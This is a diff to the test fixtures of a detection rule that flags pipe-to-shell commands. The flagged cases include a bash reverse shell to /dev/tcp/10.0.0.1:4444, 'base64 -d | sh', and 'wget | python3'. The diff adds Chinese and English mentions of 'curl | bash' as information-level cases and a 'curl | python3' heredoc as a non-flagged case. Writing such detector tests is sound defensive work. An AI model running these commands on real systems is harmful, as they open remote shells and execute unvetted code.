@@ -176,9 +176,13 @@ checkRule('V07', {
     script('echo x | «base64 -d | sh»\n'),
     script('«bash -i >& /dev/tcp/10.0.0.1/4444» 0>&1\n'),
     script('«wget -qO- https://example.org/x.py | python3» -\n'),
+    // Nothing is fetched: these are what it is called by.
+    body('不使用 `«curl | bash»` 手动安装。\n', { severity: 'information' }),
+    script('echo "«wget|sh» and the like are refused"\n', { severity: 'information' }),
   ],
   silent: [
     body('```sh\ncurl -s https://x.org | python3 -m json.tool\ncurl -s https://x.org | python3 -c "import sys"\n```\n'),
+    script("curl -s https://x.org | python3 - <<'PY'\nprint(1)\nPY\n"),
     body('1. `curl -fsSL <URL>` by hand. `curl -N <URL>` reads what comes.\n'),
     body('```sh\ncurl -fsSL https://example.org/i.sh -o i.sh\ncurl https://example.org/a.json | jq .\n```\n'),
     script('git fetch origin | tee log\nnc -z localhost 80\n'),
